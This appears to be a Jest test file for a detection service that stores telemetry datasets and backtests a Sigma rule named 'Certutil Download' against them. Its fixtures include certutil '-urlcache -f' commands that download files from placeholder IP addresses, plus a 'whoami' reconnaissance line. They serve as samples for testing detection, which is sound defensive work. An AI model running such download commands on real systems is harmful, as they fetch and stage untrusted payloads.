import { createQueueItem } from '@huntforge/service-testing';
import { request as httpRequest } from 'node:http';
import { gzipSync } from 'node:zlib';
import request from 'supertest';
import { buildEvtx, type FixtureEvent } from '@huntforge/test-kit';
import { rule, startSigmaQueue, type SigmaQueueHarness } from '../test-support/harness';

// An EVTX file is at least a 4 KiB header and one 64 KiB chunk.
const MAX_BYTES = 80_000;
// More than any dataset below holds, but for the one that tests the cap.
const MAX_EVENTS = 6;
const certutil = rule({ id: '66666666-6666-4666-8666-666666666666', title: 'Certutil Download' });
const b64 = (content: string | Buffer): string => Buffer.from(content).toString('base64');

const sysmon = (index: number, image: string, commandLine: string): FixtureEvent => ({
  provider: 'Microsoft-Windows-Sysmon',
  eventId: 1,
  channel: 'Microsoft-Windows-Sysmon/Operational',
  computer: `ws${index}.corp.example`,
  time: new Date(Date.UTC(2026, 0, 2, 3, 4, index)),
  data: { RuleName: '-', ProcessId: 4000 + index, Image: image, CommandLine: commandLine },
});

// Flat process events (no log source declared, so every rule runs on them): events 1 and 3 download with certutil.
const jsonLines = [
  { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /c whoami' },
  { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe -urlcache -f http://203.0.113.9/a.exe a.exe' },
  { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe -dump' },
  { Image: 'C:\\Tools\\certutil.exe', CommandLine: 'certutil -urlcache -split -f http://203.0.113.9/b b' },
]
  .map((event) => JSON.stringify(event))
  .join('\n');

describe('telemetry datasets and backtests', () => {
  let harness: SigmaQueueHarness;
  const api = () => request(harness.app);
  const upload = async (name: string, content: string | Buffer) => {
    const response = await api()
      .post('/api/telemetry/datasets')
      .send({ name, content_base64: b64(content) });
    expect(response.status).toBe(201);
    return response.body as { dataset_id: number; events: number; container: string };
  };
  const queue = async (yaml = certutil) => {
    const response = await api().post('/api/sigma-queue').send({ rule_yaml: yaml });
    expect(response.status).toBe(201);
    return (response.body as { queue_id: number }).queue_id;
  };

  beforeAll(async () => {
    harness = await startSigmaQueue({
      TELEMETRY_DATASET_MAX_BYTES: String(MAX_BYTES),
      TELEMETRY_DATASET_RETENTION_DAYS: '7',
      BACKTEST_MAX_EVENTS: String(MAX_EVENTS),
    });
  }, 120_000);
  afterAll(async () => harness.close());
  beforeEach(async () => {
    await harness.ctx.db.prisma.telemetryDataset.deleteMany();
    await harness.ctx.db.prisma.sigmaQueueItem.deleteMany();
  });

  it('stores JSON Lines, EVTX and CloudTrail uploads with what the reader found, lists them with the limits, and deletes them', async () => {
    const before = Date.now();
    const lines = await upload('process.jsonl', jsonLines);
    expect(lines).toMatchObject({ name: 'process.jsonl', container: 'jsonl', events: 4, size: Buffer.byteLength(jsonLines), problems: [] });
    const retention = Date.parse((lines as unknown as { expires_at: string }).expires_at) - before;
    expect(retention).toBeGreaterThanOrEqual(7 * 86_400_000);
    expect(retention).toBeLessThan(7 * 86_400_000 + 60_000);

    const evtx = await upload(
      'sysmon.evtx',
      buildEvtx([sysmon(0, 'C:\\Windows\\System32\\certutil.exe', 'certutil -urlcache -f http://x/y y')]),
    );
    expect(evtx).toMatchObject({ container: 'evtx', events: 1 });
    const trail = {
      Records: [
        {
          eventVersion: '1.08',
          eventTime: '2026-02-01T10:00:00Z',
          eventSource: 'iam.amazonaws.com',
          eventName: 'CreateUser',
          awsRegion: 'us-east-1',
        },
      ],
    };
    const cloudtrail = await upload('trail.json.gz', gzipSync(JSON.stringify(trail)));
    expect(cloudtrail).toMatchObject({ container: 'jsonl+gzip', events: 1 });
    // The file itself as the body, its name in the query: read as the base64 upload would be.
    const raw = await api()
      .post('/api/telemetry/datasets?name=raw.jsonl.gz')
      .set('Content-Type', 'application/gzip')
      .send(gzipSync(jsonLines))
      .expect(201);
    expect(raw.body).toMatchObject({ name: 'raw.jsonl.gz', container: 'jsonl+gzip', events: 4, size: gzipSync(jsonLines).length });
    await api().delete(`/api/telemetry/datasets/${raw.body.dataset_id}`).expect(204);

    const listed = await api().get('/api/telemetry/datasets').expect(200);
    expect(listed.body).toMatchObject({ max_bytes: MAX_BYTES, retention_days: 7 });
    expect(listed.body.items.map((item: { name: string }) => item.name)).toEqual(['trail.json.gz', 'sysmon.evtx', 'process.jsonl']);
    expect(listed.body.items[0]).not.toHaveProperty('bytes');
    await api().get(`/api/telemetry/datasets/${evtx.dataset_id}`).expect(200);

    await api().delete(`/api/telemetry/datasets/${evtx.dataset_id}`).expect(204);
    expect((await api().get(`/api/telemetry/datasets/${evtx.dataset_id}`)).body.error.code).toBe('not_found');
    expect((await api().delete(`/api/telemetry/datasets/${evtx.dataset_id}`).expect(404)).body.error.code).toBe('not_found');
  });

  it('backtests a queued rule: per dataset, in the order asked, its events, matches and first matching events', async () => {
    const lines = await upload('process.jsonl', jsonLines);
    const evtx = await upload(
      'sysmon.evtx',
      buildEvtx([
        sysmon(0, 'C:\\Windows\\System32\\notepad.exe', 'notepad.exe'),
        sysmon(1, 'C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -f http://198.51.100.7/p p'),
      ]),
    );
    const id = await queue();
    const response = await api()
      .post(`/api/sigma-queue/${id}/backtest`)
      .send({ dataset_ids: [evtx.dataset_id, lines.dataset_id], max_examples: 1 })
      .expect(200);
    expect(response.body).toMatchObject({ queue_id: id, title: 'Certutil Download' });
    const [first, second] = response.body.datasets;
    expect(first).toMatchObject({ dataset_id: evtx.dataset_id, name: 'sysmon.evtx', events: 2, matches: 1, problems: [] });
    expect(first.first_matches).toEqual([
      expect.objectContaining({
        index: 1,
        computer: 'ws1.corp.example',
        time: expect.stringMatching(/^2026-01-02T03:04:01/),
        event: expect.objectContaining({ Image: 'C:\\Windows\\System32\\certutil.exe', EventID: 1 }),
      }),
    ]);
    expect(second).toMatchObject({ dataset_id: lines.dataset_id, events: 4, matches: 2 });
    expect(second.first_matches.map((match: { index: number }) => match.index)).toEqual([1]);

    // The default shows up to five matching events.
    const all = await api()
      .post(`/api/sigma-queue/${id}/backtest`)
      .send({ dataset_ids: [lines.dataset_id] })
      .expect(200);
    expect(all.body.datasets[0].first_matches.map((match: { index: number }) => match.index)).toEqual([1, 3]);
  });

  it('stops at BACKTEST_MAX_EVENTS and says the answer is incomplete, counting what it read', async () => {
    const queueId = await queue();
    const twice = await upload('twice.jsonl', `${jsonLines}\n${jsonLines}`);
    const whole = await upload('process.jsonl', jsonLines);
    const response = await api()
      .post(`/api/sigma-queue/${queueId}/backtest`)
      .send({ dataset_ids: [twice.dataset_id, whole.dataset_id] })
      .expect(200);
    expect(
      response.body.datasets.map((dataset: { events: number; matches: number; complete: boolean }) => [
        dataset.events,
        dataset.matches,
        dataset.complete,
      ]),
    ).toEqual([
      [MAX_EVENTS, 3, false],
      [4, 2, true],
    ]);
  });

  it('runs the rule as it is now: after an edit the backtest answers for the edited rule', async () => {
    const lines = await upload('process.jsonl', jsonLines);
    const id = await queue();
    const run = async () =>
      (
        await api()
          .post(`/api/sigma-queue/${id}/backtest`)
          .send({ dataset_ids: [lines.dataset_id] })
          .expect(200)
      ).body.datasets[0].matches;
    expect(await run()).toBe(2);
    await api()
      .put(`/api/sigma-queue/${id}/rule`)
      .send({ rule_yaml: certutil.replace("      - '-urlcache'\n      - '-f'", "      - '-dump'") })
      .expect(200);
    expect(await run()).toBe(1);
  });

  it('gates by logsource: a Windows process rule does not fire on CloudTrail records that carry its fields', async () => {
    const trail = {
      Records: [
        {
          eventVersion: '1.08',
          eventTime: '2026-02-01T10:00:00Z',
          eventSource: 'iam.amazonaws.com',
          eventName: 'CreateUser',
          Image: 'C:\\x\\certutil.exe',
          CommandLine: 'certutil -urlcache -f',
        },
      ],
    };
    const dataset = await upload('trail.json', JSON.stringify(trail));
    const id = await queue();
    const response = await api()
      .post(`/api/sigma-queue/${id}/backtest`)
      .send({ dataset_ids: [dataset.dataset_id] })
      .expect(200);
    expect(response.body.datasets[0]).toMatchObject({ events: 1, matches: 0, first_matches: [] });
  });

  describe('refuses bad uploads with a 4xx and a stable code', () => {
    it.each([
      ['content that is not base64', { name: 'x.jsonl', content_base64: 'not base64!' }, 'validation_error'],
      ['an empty name', { name: '  ', content_base64: b64('{"a":1}') }, 'validation_error'],
      ['no content', { name: 'x.jsonl', content_base64: '' }, 'validation_error'],
      ['a body without the file', { name: 'x.jsonl' }, 'validation_error'],
    ])('400 for %s', async (_what, body, code) => {
      const response = await api().post('/api/telemetry/datasets').send(body).expect(400);
      expect(response.body.error.code).toBe(code);
    });

    it('400 invalid_json for a body that is not JSON', async () => {
      const response = await api().post('/api/telemetry/datasets').set('content-type', 'application/json').send('{"name": ').expect(400);
      expect(response.body.error.code).toBe('invalid_json');
    });

    it('400 invalid_dataset naming the line that is not JSON', async () => {
      const response = await api()
        .post('/api/telemetry/datasets')
        .send({ name: 'broken.jsonl', content_base64: b64('{"a": 1}\n{"a": \n') })
        .expect(400);
      expect(response.body.error).toMatchObject({ code: 'invalid_dataset', message: expect.stringContaining('broken.jsonl, line 2') });
    });

    it('400 invalid_dataset for text the readers do not know, for bytes that decode to nothing and for a damaged gzip', async () => {
      for (const [name, content] of [
        ['notes.txt', b64('just some words\nand more words\n')],
        ['empty.jsonl', '='],
        ['bad.gz', b64(Buffer.concat([gzipSync('{"a":1}\n').subarray(0, 12), Buffer.from('garbage')]))],
      ] as const) {
        const response = await api().post('/api/telemetry/datasets').send({ name, content_base64: content });
        expect([response.status, response.body.error.code]).toEqual([400, 'invalid_dataset']);
      }
    });

    it('400 invalid_dataset for a JSON document without events', async () => {
      const response = await api()
        .post('/api/telemetry/datasets')
        .send({ name: 'empty.json', content_base64: b64('{"Records": []}') })
        .expect(400);
      expect(response.body.error).toMatchObject({ code: 'invalid_dataset', message: expect.stringContaining('no events') });
    });

    it('413 dataset_too_large over TELEMETRY_DATASET_MAX_BYTES, with the limit', async () => {
      const big = `${JSON.stringify({ CommandLine: 'x'.repeat(MAX_BYTES) })}\n`;
      const response = await api()
        .post('/api/telemetry/datasets')
        .send({ name: 'big.jsonl', content_base64: b64(big) })
        .expect(413);
      expect(response.body.error).toMatchObject({ code: 'dataset_too_large', details: { max_bytes: MAX_BYTES } });
      expect(await harness.ctx.db.prisma.telemetryDataset.count()).toBe(0);
    });

    it('413 dataset_too_large for a file sent as the body past the limit, declared or streamed; 400 without its name', async () => {
      const big = Buffer.from(`${JSON.stringify({ CommandLine: 'x'.repeat(MAX_BYTES) })}\n`);
      const declared = await api()
        .post('/api/telemetry/datasets?name=big.jsonl')
        .set('Content-Type', 'application/octet-stream')
        .send(big)
        .expect(413);
      expect(declared.body.error).toMatchObject({ code: 'dataset_too_large', details: { max_bytes: MAX_BYTES } });
      // Chunked, with no length to go by: refused once the bytes pass the limit.
      const streamed = await new Promise<{ status: number; body: string }>((resolve, reject) => {
        const server = harness.app.listen(0, () => {
          const { port } = server.address() as { port: number };
          const req = httpRequest(
            {
              port,
              method: 'POST',
              path: '/api/telemetry/datasets?name=big.jsonl',
              headers: { 'content-type': 'application/octet-stream', 'transfer-encoding': 'chunked' },
            },
            (res) => {
              let body = '';
              res.on('data', (piece: Buffer) => (body += piece.toString()));
              res.on('end', () => server.close(() => resolve({ status: res.statusCode ?? 0, body })));
            },
          );
          req.on('error', (error) => server.close(() => reject(error)));
          for (let offset = 0; offset < big.length; offset += 8_192) req.write(big.subarray(offset, offset + 8_192));
          req.end();
        });
      });
      expect(streamed.status).toBe(413);
      expect(JSON.parse(streamed.body).error.code).toBe('dataset_too_large');
      const nameless = await api()
        .post('/api/telemetry/datasets')
        .set('Content-Type', 'application/octet-stream')
        .send(Buffer.from(jsonLines))
        .expect(400);
      expect(nameless.body.error.code).toBe('validation_error');
      const empty = await api()
        .post('/api/telemetry/datasets?name=empty.jsonl')
        .set('Content-Type', 'application/octet-stream')
        .send(Buffer.alloc(0))
        .expect(400);
      expect(empty.body.error.code).toBe('invalid_dataset');
      expect(await harness.ctx.db.prisma.telemetryDataset.count()).toBe(0);
    });

    it('400 validation_error for a dataset id that is not a positive integer', async () => {
      expect((await api().get('/api/telemetry/datasets/abc').expect(400)).body.error.code).toBe('validation_error');
      expect((await api().delete('/api/telemetry/datasets/0').expect(400)).body.error.code).toBe('validation_error');
    });
  });

  it('hides expired datasets, purges them, and a backtest on one answers 404 dataset_not_found', async () => {
    const expired = await harness.ctx.db.prisma.telemetryDataset.create({
      data: {
        name: 'old.jsonl',
        container: 'jsonl',
        events: 1,
        size: 7,
        sha256: '0'.repeat(64),
        bytes: new Uint8Array(Buffer.from('{"a":1}')),
        expiresAt: new Date(Date.now() - 1000),
      },
    });
    const id = await queue();
    expect((await api().get(`/api/telemetry/datasets/${expired.id}`).expect(404)).body.error.code).toBe('not_found');
    const backtest = await api()
      .post(`/api/sigma-queue/${id}/backtest`)
      .send({ dataset_ids: [expired.id] })
      .expect(404);
    expect(backtest.body.error).toMatchObject({ code: 'dataset_not_found', details: { dataset_id: expired.id } });
    expect((await api().get('/api/telemetry/datasets').expect(200)).body.items).toEqual([]);
    expect(await harness.ctx.db.prisma.telemetryDataset.count()).toBe(0);
  });

  describe('refuses bad backtests with a 4xx and a stable code', () => {
    it('404 not_found for an unknown queue item, 404 dataset_not_found for an unknown dataset', async () => {
      const dataset = await upload('process.jsonl', jsonLines);
      expect(
        (
          await api()
            .post('/api/sigma-queue/999999/backtest')
            .send({ dataset_ids: [dataset.dataset_id] })
            .expect(404)
        ).body.error.code,
      ).toBe('not_found');
      const id = await queue();
      const response = await api()
        .post(`/api/sigma-queue/${id}/backtest`)
        .send({ dataset_ids: [dataset.dataset_id, 999999] })
        .expect(404);
      expect(response.body.error).toMatchObject({ code: 'dataset_not_found', details: { dataset_id: 999999 } });
    });

    it.each([
      ['no datasets', { dataset_ids: [] }],
      ['the same dataset twice', { dataset_ids: [1, 1] }],
      ['more than ten datasets', { dataset_ids: Array.from({ length: 11 }, (_, index) => index + 1) }],
      ['too many examples', { dataset_ids: [1], max_examples: 21 }],
      ['no body', undefined],
    ])('400 validation_error for %s', async (_what, body) => {
      const id = await queue();
      const response = await api().post(`/api/sigma-queue/${id}/backtest`).send(body).expect(400);
      expect(response.body.error.code).toBe('validation_error');
    });

    it('400 validation_error for a queue id that is not a positive integer', async () => {
      expect(
        (
          await api()
            .post('/api/sigma-queue/x/backtest')
            .send({ dataset_ids: [1] })
            .expect(400)
        ).body.error.code,
      ).toBe('validation_error');
    });

    it('400 invalid_sigma for a queued rule the engine cannot run', async () => {
      const dataset = await upload('process.jsonl', jsonLines);
      const item = await createQueueItem(harness.ctx.db.prisma, {
        ruleYaml: 'title: Broken\nlogsource: {product: windows}\ndetection:\n  sel: {a: 1}\n  condition: missing\n',
        title: 'Broken',
        source: 'publisher',
      });
      const response = await api()
        .post(`/api/sigma-queue/${item.id}/backtest`)
        .send({ dataset_ids: [dataset.dataset_id] })
        .expect(400);
      expect(response.body.error).toMatchObject({ code: 'invalid_sigma', message: expect.stringContaining('cannot run') });
    });

    it('422 invalid_dataset for a stored dataset the readers can no longer read', async () => {
      const damaged = await harness.ctx.db.prisma.telemetryDataset.create({
        data: {
          name: 'damaged.jsonl',
          container: 'jsonl',
          events: 2,
          size: 9,
          sha256: '0'.repeat(64),
          bytes: new Uint8Array(Buffer.from('{"a":1}\n{')),
          expiresAt: new Date(Date.now() + 86_400_000),
        },
      });
      const id = await queue();
      const response = await api()
        .post(`/api/sigma-queue/${id}/backtest`)
        .send({ dataset_ids: [damaged.id] })
        .expect(422);
      expect(response.body.error).toMatchObject({
        code: 'invalid_dataset',
        message: expect.stringContaining('line 2'),
        details: { dataset_id: damaged.id },
      });
    });
  });
});
